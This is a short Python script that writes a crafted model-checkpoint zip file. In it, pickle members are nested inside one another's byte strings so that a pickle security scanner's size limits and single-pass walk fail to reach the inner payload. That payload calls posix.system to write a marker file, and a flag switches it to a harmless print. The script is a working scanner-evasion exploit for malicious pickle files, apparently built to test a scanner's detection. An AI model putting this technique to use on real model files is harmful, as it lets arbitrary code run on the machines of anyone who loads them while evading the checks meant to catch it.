# STORED zip whose .pkl members nest: a.pkl's data is one BINBYTES holding c.pkl's local header
# and data, which holds data.pkl's local header and data (the payload). Decoding a.pkl and c.pkl
# costs more bytes than the file holds, so the scanner stops decoding STORED members and walks
# the whole file once instead; a.pkl's BINBYTES swallows data.pkl for that walker too.
import sys, struct, zlib
out = sys.argv[1]; h = len(sys.argv) > 2
mod, name, arg = (b'builtins', b'print', b'PAYLOAD REACHED') if h else (b'posix', b'system', b'echo PWNED > /tmp/pwned_marker')
pay = b'\x80\x02c' + mod + b'\n' + name + b'\n' + b'X' + struct.pack('<I', len(arg)) + arg + b'\x85R0}.'
def lh(n, d): return struct.pack('<IHHHHHIIIHH', 0x04034b50, 20, 0, 0, 0, 0, zlib.crc32(d), len(d), len(d), len(n), 0) + n
def ch(n, d, off): return struct.pack('<IHHHHHHIIIHHHHHII', 0x02014b50, 20, 20, 0, 0, 0, 0, zlib.crc32(d), len(d), len(d), len(n), 0, 0, 0, 0, 0, off) + n
N_A, N_C, N_D = b'archive/a.pkl', b'archive/c.pkl', b'archive/data.pkl'
d_data = pay
inner = lh(N_D, d_data) + d_data + b"\0" * 4096
c_data = b'\x80\x02B' + struct.pack('<I', len(inner)) + inner + b'0}.'
mid = lh(N_C, c_data) + c_data
a_data = b'\x80\x02B' + struct.pack('<I', len(mid)) + mid + b'0}.'
f = lh(N_A, a_data) + a_data
off_c = len(lh(N_A, a_data)) + 7
off_d = off_c + len(lh(N_C, c_data)) + 7
ents = [(N_A, a_data, 0), (N_C, c_data, off_c), (N_D, d_data, off_d)]
for n, d in [(b'archive/version', b'3\n'), (b'archive/byteorder', b'little')]:
    ents.append((n, d, len(f))); f += lh(n, d) + d
cd = b''.join(ch(*e) for e in ents)
f += cd + struct.pack('<IHHHHIIH', 0x06054b50, 0, 0, len(ents), len(ents), len(cd), len(f), 0)
open(out, 'wb').write(f)
